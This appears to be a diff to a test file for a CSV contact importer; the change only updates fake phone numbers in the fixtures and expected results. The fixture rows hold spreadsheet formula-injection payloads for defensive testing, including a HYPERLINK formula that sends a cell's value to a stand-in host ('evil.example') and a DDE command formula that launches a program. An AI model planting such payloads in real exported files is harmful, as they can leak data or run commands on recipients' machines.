@@ -22,9 +22,9 @@ const HEADER = ['Email Address', 'First Name', 'Last Name', 'Phone Number', 'Com
 // Rows 1–4 are imported, 5–8 rejected (invalid email, missing first name, impossible phone, a
 // repeated email). Cells of both kinds start with each of the dangerous characters.
 const ROWS: string[][] = [
-  ['ann@example.com', 'Ann', '=HYPERLINK("http://evil.example/?x="&A1,"click")', '+1 555 123 4567', '+Plus Corp', '-minus', '@home', '=1+2', '=cmd|/C calc!A0'],
+  ['ann@example.com', 'Ann', '=HYPERLINK("http://evil.example/?x="&A1,"click")', '+1 212 555 4567', '+Plus Corp', '-minus', '@home', '=1+2', '=cmd|/C calc!A0'],
   ['bo@example.com', 'Bo', '@SUM(A1:A9)', '', '-10% off', '\tTabbed title', 'Oslo', '\r\nstarts with CR LF', 'x'],
-  ['cy@example.com', '=Cy', 'Lee', '(555) 123-4569', 'Plain, Inc.', 'Engineer', 'Rome', '+ plus note', '@y'],
+  ['cy@example.com', '=Cy', 'Lee', '(212) 555-4569', 'Plain, Inc.', 'Engineer', 'Rome', '+ plus note', '@y'],
   ['-dash@example.com', 'Dee', 'Ng', '', '', '', '', 'ok', ''],
   ['=HYPERLINK("http://evil.example")', 'Eve', '+Eve', '', '', '', '', '-note', '=z'],
   ['fay@example.com', '', '@Fay', '', '=Corp', '', '', '', ''],
@@ -96,7 +96,7 @@ describe('results files', () => {
     const byEmail = Object.fromEntries(contacts.map((c) => [c.email as string, c]));
     expect(byEmail['ann@example.com']).toMatchObject({
       last_name: '=HYPERLINK("http://evil.example/?x="&A1,"click")',
-      phone: '+15551234567',
+      phone: '+12125554567',
       company: '+Plus Corp',
       title: '-minus',
       city: '@home',
